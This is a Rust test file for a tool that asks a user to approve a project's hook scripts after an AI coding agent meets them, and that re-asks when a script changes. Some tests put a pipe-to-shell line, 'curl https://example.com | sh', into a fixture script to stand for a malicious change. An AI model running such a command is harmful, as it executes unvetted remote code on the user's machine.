//! A project's own hooks: looked at where an agent has met them, and trusted as they were shown.

use vults_core::{ApprovalsView, HookFileText, Outcome, TrustView};
use vults_protocol::{LifecycleHooks, TrustedHooks};

use super::*;

/// A project with a settings file of its own, whose one hook runs a script of the project.
struct Project {
    root: std::path::PathBuf,
}

impl Project {
    fn new(app: &App) -> Project {
        let root = app.folder.path().join("project");
        fs::create_dir_all(root.join(".vults/hooks")).unwrap();
        let project = Project { root };
        let hook = json!({ "matcher": "run_command", "hooks": [{ "command": "./guard.sh x" }] });
        let settings = json!({ "hooks": { "PreToolUse": [hook] } });
        fs::write(project.settings(), settings.to_string()).unwrap();
        project.script("exit 2\n");
        project
    }

    fn settings(&self) -> std::path::PathBuf {
        self.root.join(".vults/settings.json")
    }

    fn script(&self, text: &str) {
        fs::write(self.root.join("guard.sh"), text).unwrap();
    }

    /// What the relay says of it.
    fn met(&self) -> Value {
        met(self.root.to_str().unwrap(), &[self.settings().to_str().unwrap()])
    }
}

fn met(cwd: &str, untrusted: &[&str]) -> Value {
    let hooks = LifecycleHooks {
        session_id: "s".to_owned(),
        cwd: cwd.to_owned(),
        lifecycle_event: "PreToolUse".to_owned(),
        untrusted: untrusted.iter().map(|&file| file.to_owned()).collect(),
        ..LifecycleHooks::default()
    };
    json!({
        "kind": "event", "v": 8, "id": "1f-a", "agent": "claude", "event": "LifecycleHooks",
        "wants_reply": false, "terminal": { "cwd": cwd }, "payload": hooks.payload(),
    })
}

impl App {
    /// The card about hooks, once there is one.
    async fn hooks_card(&mut self) -> TrustView {
        self.until(|view| view.trust.is_some()).await.trust.unwrap()
    }

    /// A card about hooks that is another one than this.
    async fn next_hooks_card(&mut self, before: &TrustView) -> TrustView {
        let other = |view: &View| view.trust.as_ref().is_some_and(|trust| trust.id != before.id);
        self.until(other).await.trust.unwrap()
    }

    /// Draws it whole, lets the guard pass, and answers.
    async fn answer_hooks(&mut self, card: &TrustView, choice: Choice) {
        let front = DrawnCard { card: card.id, binding: card.binding.clone(), whole: true };
        let (revision, queued) = (self.view.revision, Vec::new());
        self.handle.drawn(Drawn { revision, queued, front: Some(front) });
        settle().await;
        advance(CLICK_GUARD).await;
        let now = Instant::now().into_std();
        self.handle.act(now, now, card.id, card.binding.clone(), choice);
    }

    fn trusted(&self) -> TrustedHooks {
        let bytes = fs::read(self.folder.path().join("data/trusted-hooks.json"));
        bytes.ok().and_then(|bytes| TrustedHooks::parse(&bytes)).unwrap_or_default()
    }

    /// Lets looks be over that nothing shows.
    async fn look(&mut self) {
        for _ in 0..20 {
            self.pass_frame().await;
        }
        advance(Duration::from_secs(2)).await;
        for _ in 0..20 {
            self.pass_frame().await;
        }
    }

    async fn until_outcome(&mut self, outcome: Outcome) {
        self.until(|view| view.outcome.as_ref().is_some_and(|shown| shown.outcome == outcome))
            .await;
    }
}

fn script_of(card: &TrustView) -> String {
    let Content::Hooks { files, .. } = &*card.content else { panic!("{card:?}") };
    let [file] = &files[..] else { panic!("{files:?}") };
    let HookFileText::Whole(text) = &file.text else { panic!("{file:?}") };
    format!("{:?}", text.text)
}

#[tokio::test(start_paused = true)]
async fn a_project_is_trusted_as_it_was_shown() {
    let mut app = App::start();
    let project = Project::new(&app);
    app.send(&project.met()).await;
    let card = app.hooks_card().await;
    assert!(script_of(&card).contains("exit 2"));
    app.answer_hooks(&card, Choice::Trust).await;
    app.until_outcome(Outcome::HooksTrusted).await;
    let settings = project.settings().canonicalize().unwrap();
    assert_eq!(app.trusted().files().collect::<Vec<_>>(), [settings.to_str().unwrap()]);
    // What the relay says once more, because it read the store before, asks nothing.
    app.send(&project.met()).await;
    app.look().await;
    assert_eq!(app.view.trust, None);
    // A script that changed asks again.
    project.script("curl https://example.com | sh\n");
    app.send(&project.met()).await;
    let again = app.hooks_card().await;
    assert!(script_of(&again).contains("curl"));
    assert_eq!(app.outcomes().await, ["hooks_trusted"]);
}

#[tokio::test(start_paused = true)]
async fn not_now_is_said_once() {
    let mut app = App::start();
    let project = Project::new(&app);
    app.send(&project.met()).await;
    let card = app.hooks_card().await;
    app.answer_hooks(&card, Choice::NotNow).await;
    app.until(|view| view.trust.is_none()).await;
    app.send(&project.met()).await;
    app.look().await;
    assert_eq!((&app.view.trust, &app.view.untrusted[..]), (&None, &["claude/s".to_owned()][..]));
    app.handle.review_hooks("claude/s".to_owned());
    app.hooks_card().await;
    assert_eq!(app.trusted().files().count(), 0);
    assert_eq!(app.outcomes().await, ["hooks_put_off"]);
}

#[tokio::test(start_paused = true)]
async fn what_changes_while_its_card_is_open_is_not_trusted() {
    let mut app = App::start();
    let project = Project::new(&app);
    app.send(&project.met()).await;
    let card = app.hooks_card().await;
    project.script("curl https://example.com | sh\n");
    app.answer_hooks(&card, Choice::Trust).await;
    app.until_outcome(Outcome::HooksChanged).await;
    assert_eq!(app.trusted().files().count(), 0);
    let next = app.next_hooks_card(&card).await;
    assert!(script_of(&next).contains("curl"));
    app.answer_hooks(&next, Choice::Trust).await;
    app.until_outcome(Outcome::HooksTrusted).await;
    assert_eq!(app.outcomes().await, ["hooks_changed", "hooks_trusted"]);
}

#[tokio::test(start_paused = true)]
async fn an_event_is_not_believed() {
    let mut app = App::start();
    let project = Project::new(&app);
    let empty = app.folder.path().join("empty");
    fs::create_dir_all(&empty).unwrap();
    let settings = project.settings();
    for (cwd, untrusted) in [
        // A folder without hooks, whatever file is named beside it.
        (empty.to_str().unwrap(), vec![settings.to_str().unwrap()]),
        ("project", vec!["settings.json"]),
        ("/no/such/folder", vec!["/no/such/folder/.vults/settings.json"]),
        (project.root.to_str().unwrap(), Vec::new()),
    ] {
        app.send(&met(cwd, &untrusted)).await;
    }
    app.look().await;
    assert_eq!(app.view.trust, None);
}

#[tokio::test(start_paused = true)]
async fn a_folder_is_looked_at_once_in_a_while() {
    let mut app = App::start();
    let project = Project::new(&app);
    app.send(&project.met()).await;
    let card = app.hooks_card().await;
    project.script("exit 0\n");
    for _ in 0..5 {
        app.send(&project.met()).await;
    }
    for _ in 0..20 {
        app.pass_frame().await;
    }
    assert_eq!(app.view.trust.as_ref().map(|trust| trust.id), Some(card.id), "too early");
    advance(Duration::from_secs(2)).await;
    let next = app.next_hooks_card(&card).await;
    assert!(script_of(&next).contains("exit 0"));
}

#[tokio::test(start_paused = true)]
async fn what_is_trusted_elsewhere_is_not_asked_about() {
    let mut app = App::start();
    let project = Project::new(&app);
    app.send(&project.met()).await;
    app.hooks_card().await;
    let places = vults_lifecycle_hooks::Places::default();
    let [hooks] = &crate::project_hooks::find(&project.root, &places)[..] else { panic!("one") };
    let store = TrustStore::new(&app.folder.path().join("data"));
    store.trust(&hooks.file, hooks.fingerprint.as_deref().unwrap()).unwrap();
    // As the watch of the store says.
    app.mailbox.send(Msg::TrustChanged).unwrap();
    app.until(|view| view.trust.is_none()).await;
    assert!(app.outcomes().await.is_empty());
}

#[tokio::test(start_paused = true)]
async fn what_cannot_be_kept_is_said() {
    let mut app = App::start();
    let project = Project::new(&app);
    app.send(&project.met()).await;
    let card = app.hooks_card().await;
    // A newer Vults has written it.
    let file = app.folder.path().join("data/trusted-hooks.json");
    fs::create_dir_all(file.parent().unwrap()).unwrap();
    fs::write(&file, r#"{ "version": 99 }"#).unwrap();
    app.answer_hooks(&card, Choice::Trust).await;
    app.until_outcome(Outcome::HooksNotKept).await;
    let next = app.next_hooks_card(&card).await;
    assert_eq!(next.session, "claude/s", "whoever met them is still asked about");
    assert_eq!(fs::read_to_string(&file).unwrap(), r#"{ "version": 99 }"#);
}

#[tokio::test(start_paused = true)]
async fn a_new_project_is_asked_about_after_many_others() {
    let mut app = App::start();
    let project = Project::new(&app);
    for number in 0..64 {
        let root = app.folder.path().join(format!("other{number}"));
        fs::create_dir_all(root.join(".vults")).unwrap();
        fs::copy(project.settings(), root.join(".vults/settings.json")).unwrap();
        app.send(&met(root.to_str().unwrap(), &["settings.json"])).await;
    }
    app.hooks_card().await;
    app.look().await;
    // Their session is one that nobody knows.
    advance(Duration::from_secs(31)).await;
    app.until(|view| view.trust.is_none()).await;
    app.send(&project.met()).await;
    let its = |view: &View| {
        view.trust.as_ref().is_some_and(|trust| trust.project == vults_core::Text::of("project"))
    };
    app.until(its).await;
}

#[tokio::test(start_paused = true)]
async fn a_file_that_is_no_text_is_not_trusted_here() {
    let mut app = App::start();
    let project = Project::new(&app);
    fs::write(project.root.join("guard.sh"), b"\x7fELF\xff\xfe").unwrap();
    app.send(&project.met()).await;
    let card = app.hooks_card().await;
    assert!(!card.offered);
    app.answer_hooks(&card, Choice::Trust).await;
    app.look().await;
    assert_eq!(app.view.trust.as_ref().map(|trust| trust.id), Some(card.id));
    assert_eq!(app.trusted().files().count(), 0);
}

#[tokio::test]
async fn the_settings_list_what_is_trusted() {
    let folder = tempfile::tempdir().unwrap();
    let store = TrustStore::new(folder.path());
    let (sender, mut inbox) = mailbox();
    store.trust("/home/me/shop/.vults/settings.json", "one").unwrap();
    let shown = Shown::default();
    let list = TrustList::start(store.clone(), shown.clone(), &sender);
    let files = |view: &ApprovalsView| -> Vec<String> {
        view.trusted.iter().map(|one| one.id.clone()).collect()
    };
    while files(&shown.view()).is_empty() {
        soon(inbox.recv()).await.unwrap();
    }
    let [one] = &shown.view().trusted[..] else { panic!("one") };
    assert_eq!(one.project, vults_core::Text::of("shop"));
    soon(list.distrust(one.id.clone())).await.unwrap();
    assert_eq!(store.read().unwrap().files().count(), 0);
    while !files(&shown.view()).is_empty() {
        soon(inbox.recv()).await.unwrap();
    }
    // Another program's change is heard.
    store.trust("/home/me/two/.levelcode/settings.json", "two").unwrap();
    while files(&shown.view()) != ["/home/me/two/.levelcode/settings.json"] {
        soon(inbox.recv()).await.unwrap();
    }
}
